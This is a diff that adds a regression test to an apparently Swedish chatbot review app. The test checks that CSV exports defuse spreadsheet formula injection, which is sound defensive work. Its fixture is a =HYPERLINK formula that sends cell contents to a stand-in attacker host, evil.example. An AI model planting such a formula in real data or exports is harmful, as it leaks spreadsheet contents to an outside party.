@@ -280,6 +280,43 @@ def test_csv_cells_cannot_run_as_formulas(client, db_url):
     assert _csv_safe("hej") == "hej"
 
 
+FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Klicka här")'
+
+
+def test_no_cell_of_either_csv_export_can_run_as_a_formula(tmp_path):
+    """Issue 14, finding 3: `/ask_promises{"service":"=HYPERLINK(...)"}` sent through the
+    public API landed as a live formula in both exports (the services column)."""
+    from tests.helpers.review import Conversation, Turn, service
+
+    url, store = sqlite_store(tmp_path / "tracker.db")
+    payload = "/ask_promises" + json.dumps({"service": FORMULA})
+    turn = Turn(
+        payload,
+        "ask_promises",
+        1.0,
+        ranking=[{"name": "ask_promises", "confidence": 1.0}],
+        entities=[
+            {**service(FORMULA, 0, 0), "extractor": "RegexMessageHandler"},
+            {**service("+1+1", 0, 0, "unknown_service"), "extractor": "RegexMessageHandler"},
+        ],
+        action="action_answer_service",
+        bot_text="-1 svar @ någon",
+        response="utter_promises",
+    )
+    write_conversations(store, [Conversation("formel-1", BASE, [turn])])
+    add_staff(url, "adam", accounts.ADMIN)
+    client = Client(create_app(WebConfig(tracker_db_url=url), features=("review",)))
+    client.login("adam")
+    for content in ("samtal", "meddelanden"):
+        response = client.get("/granska/export/samtal.csv", params={"innehall": content})
+        assert response.status == 200
+        rows = list(csv.reader(io.StringIO(response.text)))
+        assert len(rows) > 1
+        cells = [cell for row in rows for cell in row]
+        assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], content
+        assert any(cell.startswith("'" + FORMULA) for cell in cells), content
+
+
 def test_audit_log_records_who_opened_and_exported_what(client, db_url):
     client.get("/granska/samtal/handoff-1")
     client.get("/granska/export/samtal.csv", params={"handoff": "ja"})
